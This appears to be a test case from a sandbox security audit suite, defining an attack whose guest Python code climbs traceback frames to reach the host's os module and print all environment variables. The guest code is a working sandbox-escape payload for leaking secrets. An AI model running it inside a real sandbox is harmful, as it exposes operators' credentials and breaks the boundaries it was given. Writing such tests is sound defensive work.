"""Reach the variables of callers through a traceback"""

from executor.audit.attack import Attack, Harm

ATTACK = Attack(
    harm=Harm.SECRET,
    references=("CWE-209", "CWE-913"),
    guest="""
import sys

try:
    raise ValueError
except ValueError as error:
    frame = error.__traceback__.tb_frame
    while frame is not None:
        for name in ("os", "sys"):
            found = frame.f_globals.get(name)
            if found is not None and name == "sys":
                found = found.modules["os"]
            if found is not None:
                print(dict(found.environ))
        frame = frame.f_back
""",
)
